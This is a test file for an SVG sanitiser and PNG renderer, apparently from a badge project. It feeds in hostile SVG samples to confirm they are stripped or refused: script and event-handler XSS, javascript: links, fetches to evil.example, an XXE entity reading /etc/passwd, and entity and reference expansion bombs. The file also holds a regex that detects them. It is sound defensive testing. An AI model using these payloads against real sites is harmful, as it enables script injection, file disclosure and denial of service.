import { expect, test } from 'vitest'
import { SvgRefused, sanitiseSvg } from './sanitise-svg.ts'
import { svgToPng } from './to-png.ts'

const clean = (text: string) => sanitiseSvg(Buffer.from(text)).toString()
const drawing = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" ${more}><circle cx="50" cy="50" r="40" fill="#27487a"/>${inside}</svg>`

const circle = '<circle cx="50" cy="50" r="40" fill="#27487a"></circle>'

test('a drawing of shapes, gradients, text and reused parts comes out as it went in', () => {
  const text = drawing(
    '<title>A pin</title><defs><linearGradient id="sky"><stop offset="0" stop-color="#fff"/></linearGradient><g id="leaf"><path d="M0 0L1 1"/></g></defs><rect width="10" height="10" fill="url(#sky)"/><use xlink:href="#leaf" x="5"/><use href="#leaf"/><text x="1" y="2" font-size="3">Ünïcode &amp; more</text>',
  )
  const out = clean(text)
  expect(out).toContain(circle)
  expect(out).toContain('fill="url(#sky)"')
  expect(out.match(/<use href="#leaf"/g)).toHaveLength(2)
  expect(out).toContain('Ünïcode &amp; more')
  expect(clean(out)).toBe(out)
})

test('colours that a drawing program wrote into style stay', () => {
  const out = clean(
    drawing(
      '<rect style="fill: #ff0000 !important; stroke:url(#a);-inkscape-font:x;behavior:url(x)" width="5" fill="blue"/>',
    ),
  )
  expect(out).toContain('<rect fill="#ff0000" stroke="url(#a)" width="5"></rect>')
})

const forbidden =
  /<script|<style|<foreignObject|<iframe|<image|<a[\s>]|<animate|<set|<handler|<listener|on\w+\s*=|javascript:|data:|https?:\/\/(?!www\.w3\.org\/2000\/svg")|@import|expression|evil|<!|<\?/i

test.each([
  ['a script', '<script>evil()</script>'],
  ['a script of another place', '<script href="https://evil.example/x.js"/>'],
  ['a script with a prefix', '<svg:script xmlns:svg="http://www.w3.org/2000/svg">evil()</svg:script>'],
  ['an HTML script', '<script xmlns="http://www.w3.org/1999/xhtml">evil()</script>'],
  ['a script in CDATA', '<script><![CDATA[evil()]]></script>'],
  ['a handler', '<rect onclick="evil()" onload="evil()" ONBEGIN="evil()" width="1"/>'],
  ['a handler with a prefix', '<rect xmlns:x="http://x" x:onclick="evil()"/>'],
  [
    'foreign content',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>',
  ],
  [
    'a style sheet',
    '<style>@import url(https://evil.example/x.css); circle{fill:url(https://evil.example)}</style>',
  ],
  ['a picture from elsewhere', '<image href="https://evil.example/x.png"/>'],
  ['a picture inside', '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'],
  ['a link', '<a href="javascript:evil()"><rect/></a>'],
  ['a use of elsewhere', '<use href="https://evil.example/x.svg#a"/>'],
  ['a use of data', '<use xlink:href="data:image/svg+xml,evil#a"/>'],
  ['a fill from elsewhere', '<rect fill="url(https://evil.example/x#a)"/>'],
  ['a fill from elsewhere, escaped', '<rect fill="u\\72l(https://evil.example)"/>'],
  ['a fill from elsewhere, spelt otherwise', '<rect fill="URL( //evil.example/x )"/>'],
  ['a fill with a way out behind a good one', '<rect fill="url(#a) url(https://evil.example)"/>'],
  ['a filter from elsewhere', '<rect filter="url(//evil.example/f#f)"/>'],
  ['a style that fetches', '<rect style="fill:url(https://evil.example);background:url(//evil.example)"/>'],
  ['a style that computes', '<rect style="fill:expression(evil())"/>'],
  [
    'an animation of a link',
    '<animate attributeName="href" values="javascript:evil()"/><set attributeName="onclick" to="evil()"/>',
  ],
  ['a handler element', '<handler xmlns="http://www.w3.org/2001/xml-events">evil()</handler>'],
  ['a filter picture', '<filter id="f"><feImage href="https://evil.example/x"/></filter>'],
  ['a base address', '<rect xml:base="https://evil.example/"/>'],
  ['a processing instruction', '<?xml-stylesheet href="https://evil.example/x.css"?>'],
  ['a comment', '<!-- evil -->'],
  ['unknown elements', '<marquee>evil</marquee><metadata>evil</metadata>'],
])('%s does not get through, and the rest of the drawing does', (_what, inside) => {
  const out = clean(drawing(inside))
  expect(out).not.toMatch(forbidden)
  expect(out).toContain(circle)
})

test('what is thrown out takes its content along, and nothing else', () => {
  const out = clean(drawing('<metadata><g><rect width="1"/>evil</g></metadata><rect width="2"/>'))
  expect(out).toContain('<rect width="2"></rect></svg>')
  expect(out).not.toContain('evil')
})

test.each([
  ['an entity', '<!DOCTYPE svg [<!ENTITY x "evil">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'],
  [
    'an entity from a file',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
  ],
  [
    'a parameter entity',
    '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/dtd">%x;]><svg xmlns="http://www.w3.org/2000/svg"/>',
  ],
  [
    'entities of entities',
    `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(50)}">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`,
  ],
  ['an entity nobody defined', '<svg xmlns="http://www.w3.org/2000/svg">&nothing;</svg>'],
  [
    'a web page',
    '<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/2000/svg"/></html>',
  ],
  ['no namespace', '<svg><rect/></svg>'],
  ['something cut off', '<svg xmlns="http://www.w3.org/2000/svg"><rect'],
  ['tags that do not match', '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'],
  ['two roots', '<svg xmlns="http://www.w3.org/2000/svg"/><svg xmlns="http://www.w3.org/2000/svg"/>'],
  ['another encoding', '<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
  ['nothing', ''],
  ['text', 'hello'],
])('%s is refused with a reason', (_what, text) => {
  expect(() => clean(text)).toThrow(SvgRefused)
})

test('UTF-16 and bytes that are no text are refused; a byte order mark and a plain DOCTYPE are not', () => {
  expect(() => sanitiseSvg(Buffer.from(drawing(''), 'utf16le'))).toThrow(SvgRefused)
  expect(() => sanitiseSvg(Buffer.from([0x3c, 0xff, 0xfe]))).toThrow(SvgRefused)
  expect(clean(`\ufeff${drawing('')}`)).toContain(circle)
  expect(
    clean(
      `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${drawing('')}`,
    ),
  ).toContain(circle)
})

test.each([
  ['parts that repeat parts that repeat parts', drawing(bomb(8, 10))],
  ['a part that draws itself', drawing('<g id="a"><use href="#a"/></g>')],
  ['two parts that draw each other', drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')],
  ['patterns in patterns', drawing(patterns(9))],
  ['nesting without end', drawing(`${'<g>'.repeat(5_000)}${'</g>'.repeat(5_000)}`)],
  ['more elements than any pin has', drawing('<rect/>'.repeat(30_000))],
  ['filters without end', drawing('<rect filter="url(#f)"/>'.repeat(1_000))],
])('%s are refused in no time', (_what, text) => {
  const began = Date.now()
  expect(() => clean(text)).toThrow(SvgRefused)
  expect(Date.now() - began).toBeLessThan(2_000)
})

test('a part that is used a few hundred times is fine', () => {
  const out = clean(drawing(`<g id="a"><rect/><rect/></g>${'<use href="#a"/>'.repeat(400)}`))
  expect(out.match(/<use /g)).toHaveLength(400)
})

test('a filter that would take for ever loses what makes it so', () => {
  const out = clean(
    drawing(
      '<filter id="f"><feTurbulence numOctaves="100000000" seed="2"/><feGaussianBlur stdDeviation="3 4"/><feMorphology radius="1e9"/></filter>',
    ),
  )
  expect(out).toContain(
    '<feTurbulence seed="2"></feTurbulence><feGaussianBlur stdDeviation="3 4"></feGaussianBlur><feMorphology></feMorphology>',
  )
})

test('a drawing much higher than wide is drawn by its height', async () => {
  const tall =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 500" width="10" height="500"><rect width="1" height="9"/></svg>'
  const png = await svgToPng(sanitiseSvg(Buffer.from(tall)), 320)
  expect(png.readUInt32BE(16)).toBeLessThanOrEqual(320)
  expect(png.readUInt32BE(20)).toBeLessThanOrEqual(320)
  const wide = await svgToPng(sanitiseSvg(Buffer.from(drawing(''))), 320)
  expect([wide.readUInt32BE(16), wide.readUInt32BE(20)]).toEqual([320, 320])
})

function bomb(levels: number, times: number): string {
  const parts = ['<rect id="l0" width="1" height="1"/>']
  for (let level = 1; level < levels; level++)
    parts.push(`<g id="l${level}">${`<use href="#l${level - 1}"/>`.repeat(times)}</g>`)
  return parts.join('')
}

function patterns(levels: number): string {
  return Array.from(
    { length: levels },
    (_, level) =>
      `<pattern id="p${level}" width="1" height="1">${`<rect width="1" height="1" fill="url(#p${level - 1})"/>`.repeat(8)}</pattern>`,
  ).join('')
}

test('the editable design of a badge stays in its picture, as text and nothing else', () => {
  const design = (inside: string) =>
    drawing(`<metadata><design xmlns="urn:rucksack:badge-design:1">${inside}</design></metadata>`)
  const text = '{&quot;a&quot;:&quot;&lt;script&gt;&quot;}'
  const out = clean(design(text))
  expect(out).toContain(`<metadata><design xmlns="urn:rucksack:badge-design:1">${text}</design></metadata>`)
  expect(clean(out)).toBe(out)
  const hostile = clean(
    design('{}<script>alert(1)</script><circle r="1"/>').replace(
      '<metadata>',
      '<metadata onload="alert(1)"><rdf xmlns="urn:other">secret</rdf>loose words',
    ),
  )
  expect(hostile).toContain('<metadata><design xmlns="urn:rucksack:badge-design:1">{}</design></metadata>')
  expect(hostile).not.toMatch(/script|alert|rdf|secret|loose|onload/)
  expect(clean(drawing('<metadata>words</metadata>'))).not.toContain('metadata')
  expect(() => clean(design('x'.repeat(400_001)))).toThrow(SvgRefused)
})
